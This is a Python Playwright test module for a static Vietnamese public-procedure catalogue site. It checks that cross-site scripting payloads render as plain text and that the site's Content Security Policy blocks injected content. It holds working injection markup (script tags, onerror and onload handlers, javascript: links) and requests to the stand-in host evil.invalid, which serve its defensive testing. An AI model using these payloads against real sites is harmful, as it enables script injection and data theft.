"""Attacks written into every text of a catalogue stay text in a real browser, from a stick and from a web server."""

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.conftest import served
from tests.browser.payloads import EVIL, PAYLOADS, built, code, record

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return built(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module", params=["file", "http"])
def root(request: pytest.FixtureRequest, hostile: Path) -> Iterator[str]:
    """The address of the hostile site, with a slash."""
    if request.param == "file":
        yield f"{hostile.as_uri()}/"
        return
    with served(hostile) as address:
        yield address


@dataclass
class Watch:
    """A window with everything that a payload could do noted."""

    context: BrowserContext
    page: Page
    calls: list[int] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    console: list[str] = field(default_factory=list)

    def went_outside(self, root: str) -> list[str]:
        return [url for url in self.requests if not url.startswith((root, "data:image/"))]


@pytest.fixture
def watch(chromium: Browser) -> Iterator[Watch]:
    context = chromium.new_context()
    watched = Watch(context, context.new_page())
    context.expose_binding("pwned", lambda source, number: watched.calls.append(number))
    context.add_init_script("window.PWN = function (number) { window.pwned(number); };")
    context.on("request", lambda request: watched.requests.append(request.url))
    watched.page.on("console", lambda message: watched.console.append(message.text))
    watched.page.on("dialog", lambda dialog: dialog.dismiss())
    yield watched
    context.close()


ACTIVE = """() => [...document.querySelectorAll("*")].flatMap(e => [...e.attributes].filter(a =>
  /^on/i.test(a.name) || (a.name === "style" && !/^(top|height): [0-9]+px;$/.test(a.value)) || a.name === "srcdoc" ||
  (/^(href|src|action|formaction|data|xlink:href)$/i.test(a.name) && /^[^a-z]*(javascript|vbscript|data:text)/i.test(a.value)))
  .map(a => e.tagName + " " + a.name + "=" + a.value))"""


def _one_line(text: str) -> str:
    return re.sub(r"\s+", " ", text)


def test_there_are_payloads_of_every_kind_in_every_text() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40
    assert json.dumps(record(1, "XYZ"), ensure_ascii=False).count("XYZ") >= 35


def test_every_procedure_shows_its_payload_as_text(root: str, watch: Watch) -> None:
    for number, payload in list(enumerate(PAYLOADS, 1))[:: 2 if root.startswith("http") else 1]:
        watch.page.goto(f"{root}thu-tuc/{code(number)}.html")
        assert _one_line(watch.page.locator("h1").inner_text()) == payload
        assert payload in watch.page.title()
        assert watch.page.locator("meta[name=description]").get_attribute("content") == payload
        assert (watch.page.locator("main").text_content() or "").count(payload) > 30
        assert watch.page.evaluate(ACTIVE) == []
    assert (watch.calls, watch.went_outside(root)) == ([], [])
    assert [text for text in watch.console if "Content Security Policy" in text or "Error" in text] == []


@pytest.mark.parametrize(
    "path",
    [
        "index.html",
        "thu-tuc/index.html",
        *(f"{folder}/index.html" for folder in ("co-quan", "linh-vuc", "doi-tuong", "su-kien", "van-ban")),
    ],
)
def test_every_list_shows_all_payloads_as_text(path: str, root: str, watch: Watch) -> None:
    watch.page.goto(root + path)
    text = watch.page.locator("main").text_content() or ""
    assert [payload for payload in PAYLOADS if payload not in text] == []
    assert watch.page.evaluate(ACTIVE) == []
    assert (watch.calls, watch.went_outside(root)) == ([], [])


def test_every_group_shows_its_payload_as_text(root: str, watch: Watch) -> None:
    folders = ("co-quan/co-quan", "linh-vuc/linh-vuc", "doi-tuong/nguoi", "su-kien/su-kien", "van-ban/{}-2020-nd-cp")
    for number, payload in list(enumerate(PAYLOADS, 1))[:: 2 if root.startswith("http") else 1]:
        name = folders[number % len(folders)]
        watch.page.goto(f"{root}{name.format(number) if '{' in name else f'{name}-{number}'}.html")
        assert payload in (watch.page.locator("main").text_content() or "")
        assert watch.page.evaluate(ACTIVE) == []
    assert (watch.calls, watch.went_outside(root)) == ([], [])


def test_the_search_shows_payloads_as_text_in_its_results_and_in_what_was_asked(root: str, watch: Watch) -> None:
    watch.page.goto(f"{root}tim-kiem/index.html")
    box, results, heading = (watch.page.locator(part) for part in ("#cau-hoi", "[data-search-list]", "#ket-qua"))
    for number, payload in enumerate(PAYLOADS, 1):
        box.fill(code(number))
        expect(results.locator("h3").first).to_have_text(payload)
        expect(results.locator(".card").first).to_contain_text(f"{payload} · {payload} ·")
    for payload in PAYLOADS[::4]:
        box.fill(f"{payload} qqqq wwww eeee rrrr tttt yyyy uuuu iiii oooo pppp")
        expect(heading).to_contain_text(payload)
    assert watch.page.evaluate(ACTIVE) == []
    assert (watch.calls, watch.went_outside(root)) == ([], [])


def test_suggestions_show_payloads_as_text(root: str, watch: Watch) -> None:
    watch.page.goto(f"{root}du-lieu.html")
    for number, payload in enumerate(PAYLOADS, 1):
        watch.page.get_by_role("combobox").fill(code(number))
        expect(watch.page.get_by_role("option").first).to_contain_text(payload)
    assert watch.page.evaluate(ACTIVE) == []
    assert (watch.calls, watch.went_outside(root)) == ([], [])


def test_a_search_that_came_with_the_address_is_text(root: str, watch: Watch) -> None:
    for payload in PAYLOADS[::3]:
        watch.page.goto("about:blank")
        watch.page.goto(f"{root}tim-kiem/index.html#q={quote(payload, safe='')}&co-quan={quote(payload, safe='')}")
        expect(watch.page.locator("#cau-hoi")).to_have_value(payload)
    assert watch.page.evaluate(ACTIVE) == []
    assert (watch.calls, watch.went_outside(root)) == ([], [])


# ---- the nets hold


def test_without_escaping_and_policy_the_payloads_do_act(tmp_path: Path, watch: Watch) -> None:
    """Proves that this module would notice."""
    calls, requests = {1, 2, 4, 5, 6, 7, 9, 30, 32, 33}, {f"{EVIL}x.js", f"{EVIL}x.css", f"{EVIL}x"}
    for number, payload in enumerate(PAYLOADS, 1):
        if number in calls or any(url in payload for url in requests):
            (tmp_path / f"{number}.html").write_text(f'<!doctype html><meta charset="utf-8"><main><p>{payload}</main>', encoding="utf-8")
            watch.context.new_page().goto((tmp_path / f"{number}.html").as_uri(), wait_until="commit")
    _wait(watch.page, lambda: calls <= set(watch.calls) and requests <= set(watch.requests))


def _wait(page: Page, is_done: Callable[[], bool]) -> None:
    """Lets the browser work until something has happened; fails after ten seconds."""
    for _ in range(200):
        if is_done():
            return
        page.wait_for_timeout(50)
    pytest.fail("it did not happen")


INJECTED = """<script>PWN(1)</script><img src=x onerror=PWN(2)><svg onload=PWN(3)></svg><a id=link href="javascript:PWN(4)">x</a>
<script src="https://evil.invalid/x.js"></script><iframe srcdoc="<script>parent.PWN(5)</script>"></iframe>
<p id=styled style="color: rgb(1, 2, 3)">x</p><style>#styled { background: rgb(4, 5, 6) }</style>
<img src="https://evil.invalid/x.png"><link rel=stylesheet href="https://evil.invalid/x.css"><object data="https://evil.invalid/o"></object>
<base href="https://evil.invalid/"><form id=form action="https://evil.invalid/"><input name=cccd value=1></form>"""
TRY_EVERYTHING = """() => { document.getElementById("link").click(); document.getElementById("form").submit();
  fetch("https://evil.invalid/fetch").catch(() => 0); new Image().src = "https://evil.invalid/image"; }"""


def _with_injection(hostile: Path, name: str, has_policy: bool) -> str:
    html = (hostile / f"thu-tuc/{code(1)}.html").read_text(encoding="utf-8")
    html, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', lambda policy: policy.group() if has_policy else "", html)
    assert removed == 1
    html, added = re.subn("</h1>", lambda end: f"</h1>{INJECTED}", html, count=1)
    assert added == 1
    (hostile / "thu-tuc" / name).write_text(html, encoding="utf-8")
    return f"thu-tuc/{name}"


def test_the_policy_stops_what_would_get_past_escaping(hostile: Path, root: str, watch: Watch) -> None:
    reached: list[str] = []
    watch.context.on("response", lambda response: reached.append(response.url))
    watch.page.goto(root + _with_injection(hostile, "held.html", has_policy=True))
    styled = watch.page.locator("#styled").evaluate(
        "e => [getComputedStyle(e).color, getComputedStyle(e).backgroundColor, document.baseURI]"
    )
    assert styled[0] != "rgb(1, 2, 3)"
    assert styled[1] != "rgb(4, 5, 6)"
    assert not styled[2].startswith(EVIL)
    watch.page.evaluate(TRY_EVERYTHING)
    watch.page.wait_for_timeout(100)
    assert watch.calls == []
    assert [url for url in reached if url.startswith(EVIL)] == []
    directives = ("script-src", "style-src", "img-src", "connect-src", "base-uri", "form-action")
    refused = " ".join(text for text in watch.console if "Content Security Policy" in text)
    assert [directive for directive in directives if directive not in refused] == []


def test_without_the_policy_the_same_page_runs_what_was_injected(hostile: Path, root: str, watch: Watch) -> None:
    watch.page.goto(root + _with_injection(hostile, "open.html", has_policy=False), wait_until="commit")
    _wait(watch.page, lambda: {1, 2, 3, 5} <= set(watch.calls) and watch.went_outside(root) != [])
